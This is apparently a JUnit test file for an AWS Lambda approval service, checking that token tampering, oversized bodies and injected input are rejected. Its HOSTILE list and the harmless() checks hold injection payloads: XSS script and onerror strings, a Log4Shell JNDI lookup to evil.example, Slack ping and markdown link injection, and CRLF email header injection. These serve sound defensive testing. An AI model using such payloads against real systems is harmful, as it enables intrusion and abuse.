package io.github.bedrockremedy.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.jr.ob.JSON;
import io.github.bedrockremedy.contract.EnvironmentKeys;
import io.github.bedrockremedy.local.LambdaEvents;
import io.github.bedrockremedy.local.Publication;
import io.github.bedrockremedy.pipeline.ledger.CaseStatus;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/// Attacks on the ways to decide, each through the payload AWS hands to the function.
class AttacksTest {
  private static final List<String> HOSTILE =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "[click](https://evil.example)",
          "<!channel> <https://evil.example|here>",
          "\u001b[31mred\u001b[0m",
          "${jndi:ldap://evil.example}",
          "a\r\nBcc: all@example.com");

  @Test
  void aCutOrLengthenedTokenOpensNothing() throws Exception {
    try (Incident incident = Incident.start().deliver()) {
      String token = incident.person().link().getRawQuery();
      for (String query :
          List.of(
              token.substring(0, token.length() - 1),
              token + "A",
              token.replace("t=", "T="),
              token.replace("t=", "t=%00"),
              token.toUpperCase(java.util.Locale.ROOT),
              "t=",
              "")) {
        assertEquals(404, post(incident, query, "approve", Map.of()), query);
      }
      untouched(incident);
    }
  }

  @Test
  void theTokenOfOneCaseDoesNotOpenAnother() throws Exception {
    try (Incident incident = Incident.start().deliver()) {
      Person first = incident.person();
      incident.installation.deliver(List.of(other()));
      Person second = incident.person();
      assertFalse(first.link().getPath().equals(second.link().getPath()));
      String swapped = first.link().getRawQuery();
      byte[] event = request(second.link().getPath(), swapped, "approve", incident, Map.of());
      assertEquals(404, status(incident.installation.approval(event)));
      untouched(incident);
    }
  }

  @Test
  void aTokenThatANewerMailReplacedOpensNothing() throws Exception {
    try (Incident incident = Incident.start().deliver()) {
      String old = incident.person().link().getRawQuery();
      incident.pass(java.time.Duration.ofHours(19));
      assertTrue(incident.mail().startsWith("DECISION STILL NEEDED"), incident.mail());
      assertEquals(404, post(incident, old, "approve", Map.of()));
      untouched(incident);
      assertEquals(303, incident.person().decide("approve", "Ada", ""));
    }
  }

  @Test
  void anOversizedBodyIsNotRead() throws Exception {
    try (Incident incident = Incident.start().deliver()) {
      String token = incident.person().link().getRawQuery();
      assertEquals(400, post(incident, token, "approve", Map.of("reason", "x".repeat(20_000))));
      untouched(incident);
    }
  }

  @Test
  void lineBreaksInFieldsReachNoHeaderAndNoMail() throws Exception {
    try (Incident incident = Incident.start().deliver()) {
      String token = incident.person().link().getRawQuery();
      String evil = "Ada%0d%0aSet-Cookie:%20a=b%0d%0aBcc:%20all@example.com";
      Map<String, String> fields = Map.of("name", evil, "reason", evil);
      byte[] answer =
          incident.installation.approval(
              request(incident.person().link().getPath(), token, "reject", incident, fields));
      assertEquals(303, status(answer));
      String headers = String.valueOf(JSON.std.mapFrom(answer).get("headers"));
      assertFalse(headers.contains("Set-Cookie") || headers.contains("\n"), headers);
      incident.installation.settle();
      String mail = incident.mail();
      assertFalse(mail.contains("\nBcc:") || mail.contains("\r"), mail);
    }
  }

  /// One field after the other carries what would run, link, colour or ping somewhere.
  @Test
  void nothingAnEventCarriesIsPrintedAsItCame() throws Exception {
    Map<String, String> many = Map.of(EnvironmentKeys.REQUESTS_PER_HOUR, "1000");
    try (Incident incident = Incident.start(many)) {
      Map<String, Object> event = JSON.std.mapFrom(Incident.event());
      List<String> variants = new ArrayList<>();
      for (String hostile : HOSTILE) {
        int leaves = leaves(event);
        for (int i = 0; i < leaves; i++) {
          variants.add(JSON.std.asString(changed(event, i, v -> v + hostile)));
        }
      }
      for (int i = 0; i < variants.size(); i += 20) {
        incident.installation.deliver(variants.subList(i, Math.min(i + 20, variants.size())));
      }
      List<Publication> sent = incident.installation.aws().publications();
      assertTrue(sent.size() > 5, "some of them are told of: " + sent.size());
      for (Publication each : sent) {
        harmless(each.subject().orElse(""));
        Map<String, Object> forms = JSON.std.mapFrom(each.message());
        forms.values().forEach(form -> harmless(String.valueOf(form)));
        for (Person person :
            Person.reading(SentMessage.read(each.message()).email()).stream().toList()) {
          byte[] page =
              LambdaEvents.httpApi(
                  "GET",
                  person.link().getPath(),
                  person.link().getRawQuery(),
                  Map.of("host", "localhost"),
                  "",
                  "192.0.2.7",
                  incident.clock.instant());
          harmless(
              String.valueOf(JSON.std.mapFrom(incident.installation.approval(page)).get("body")));
        }
      }
      harmless(OtherWaysTest.cli(incident, 0, "list"));
    }
  }

  private static void harmless(String text) {
    for (String sign :
        List.of(
            "<script", "<img", "](http", "<!channel", "\u001b", "${jndi", "\r", "<https://evil")) {
      assertFalse(text.contains(sign), sign + " in\n" + text);
    }
  }

  private static int leaves(Object node) {
    return switch (node) {
      case Map<?, ?> map -> map.values().stream().mapToInt(v -> v == null ? 0 : leaves(v)).sum();
      case List<?> list -> list.stream().mapToInt(v -> v == null ? 0 : leaves(v)).sum();
      case String _ -> 1;
      default -> 0;
    };
  }

  /// The event with its text of a number changed.
  private static Object changed(Object node, int number, UnaryOperator<String> change) {
    int[] left = {number};
    return changed(node, left, change);
  }

  private static Object changed(Object node, int[] left, UnaryOperator<String> change) {
    return switch (node) {
      case Map<?, ?> map -> {
        Map<String, Object> copy = new LinkedHashMap<>();
        map.forEach(
            (k, v) -> copy.put(String.valueOf(k), v == null ? "" : changed(v, left, change)));
        yield copy;
      }
      case List<?> list -> list.stream().map(v -> changed(v, left, change)).toList();
      case String text -> left[0]-- == 0 ? change.apply(text) : text;
      default -> node;
    };
  }

  /// The same call for another model: another case.
  private static String other() {
    String model = "anthropic.claude-sonnet-4-5-20250929-v1:0";
    return Incident.event().replace(model, "anthropic.claude-haiku-4-5-20251001-v1:0");
  }

  private static int post(
      Incident incident, String query, String decision, Map<String, String> fields)
      throws Exception {
    String path = incident.person().link().getPath();
    return status(incident.installation.approval(request(path, query, decision, incident, fields)));
  }

  private static byte[] request(
      String path, String query, String decision, Incident incident, Map<String, String> fields) {
    Map<String, String> form = new HashMap<>();
    form.put("plan", incident.standing().plan().proposal().orElseThrow().sha256());
    form.put("generation", "1");
    form.put("code", incident.person().code());
    form.put("name", "Ada");
    form.put("reason", "because");
    form.put("decision", decision);
    form.putAll(fields);
    String body =
        form.entrySet().stream()
            .map(e -> e.getKey() + "=" + e.getValue())
            .reduce((a, b) -> a + "&" + b)
            .orElse("");
    return LambdaEvents.httpApi(
        "POST",
        path,
        query,
        Map.of("host", "approve.example.com", "content-type", "application/x-www-form-urlencoded"),
        body,
        "192.0.2.7",
        incident.clock.instant());
  }

  private static int status(byte[] answer) throws Exception {
    return ((Number) JSON.std.mapFrom(answer).getOrDefault("statusCode", 0)).intValue();
  }

  private static void untouched(Incident incident) throws Exception {
    incident.installation.settle();
    assertEquals(CaseStatus.PENDING, incident.standing().status());
    assertEquals(0, incident.writes());
  }
}
